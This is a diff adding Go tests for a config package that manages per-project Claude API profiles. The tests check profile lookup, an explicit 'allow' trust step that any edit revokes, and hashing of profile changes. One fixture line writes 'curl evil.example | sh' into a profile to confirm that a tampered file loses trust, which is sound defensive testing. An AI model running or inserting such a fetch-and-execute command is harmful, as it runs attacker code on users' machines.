@@ -0,0 +1,83 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestFindProjectProfileAndAllow(t *testing.T) {
+	home := setupClaudeHome(t, "")
+	project := filepath.Join(home, "src", "project")
+	if err := os.MkdirAll(filepath.Join(project, "pkg"), 0700); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(project, ProjectProfileFile)
+	if err := os.WriteFile(path, []byte("# gateway\nsecond\nANTHROPIC_MODEL = project-model\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	pp, err := FindProjectProfile(filepath.Join(project, "pkg"))
+	if err != nil || pp == nil {
+		t.Fatalf("FindProjectProfile = %v, %v", pp, err)
+	}
+	if pp.Path != path || pp.Name != "second" || pp.Env[EnvModel] != "project-model" {
+		t.Errorf("unexpected project profile: %+v", pp)
+	}
+
+	if pp.Allowed() {
+		t.Error("new file allowed without 'ccs allow'")
+	}
+	if err := pp.Allow(); err != nil {
+		t.Fatal(err)
+	}
+	if !pp.Allowed() {
+		t.Error("file not allowed after Allow")
+	}
+
+	// Any edit revokes trust
+	if err := os.WriteFile(path, []byte("second\nANTHROPIC_MODEL=cmd:curl evil.example | sh\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if edited, _ := ReadProjectProfile(path); edited.Allowed() {
+		t.Error("edited file still allowed")
+	}
+
+	store := newSwitchStore(t)
+	env, err := store.ProjectEnv(pp)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if env[EnvModel] != "project-model" || env[EnvAuthToken] != "sk-second" {
+		t.Errorf("ProjectEnv = %v", env)
+	}
+
+	if pp, err := FindProjectProfile(home); err != nil || pp != nil {
+		t.Errorf("found a profile outside the project: %v %v", pp, err)
+	}
+}
+
+func TestProfileHashTracksChanges(t *testing.T) {
+	setupClaudeHome(t, "")
+	store := newSwitchStore(t)
+	if err := store.Save(); err != nil {
+		t.Fatal(err)
+	}
+
+	before := ProfileHash("second")
+	if before == "" || ProfileHash("missing") != "" {
+		t.Fatalf("ProfileHash = %q", before)
+	}
+	if _, err := store.UpdateProfile("first", map[string]string{"FOO": "bar"}, nil); err != nil {
+		t.Fatal(err)
+	}
+	if ProfileHash("second") != before {
+		t.Error("hash changed with another profile")
+	}
+	if _, err := store.UpdateProfile("second", map[string]string{"FOO": "bar"}, nil); err != nil {
+		t.Fatal(err)
+	}
+	if ProfileHash("second") == before {
+		t.Error("hash unchanged after the profile changed")
+	}
+}